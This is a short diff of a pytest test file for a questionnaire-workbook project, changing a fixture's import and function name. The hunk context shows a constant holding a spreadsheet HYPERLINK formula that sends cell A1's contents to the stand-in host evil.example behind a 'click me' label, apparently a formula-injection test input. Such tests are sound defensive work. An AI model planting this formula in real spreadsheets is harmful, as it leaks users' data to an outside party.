@@ -31,12 +31,12 @@ FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'
 @pytest.fixture(scope="module")
 def questionnaire(tmp_path_factory: pytest.TempPathFactory) -> bytes:
     """A filled questionnaire as an expert would return it."""
-    from drafting.workbook.questionnaires.delphi_questionnaires import write_allocation_questionnaire
+    from tests.drafting.weights_projects import write_allocation
 
     folder = tmp_path_factory.mktemp("questionnaire")
     blank, filled = folder / "blank.xlsx", folder / "filled.xlsx"
     system = inputs().system
-    write_allocation_questionnaire(blank, ME, 1, system, frozenset(TRUE))
+    write_allocation(blank, ME, 1, system, frozenset(TRUE))
     fill_allocation(blank, filled, TRUE)
     return filled.read_bytes()
 
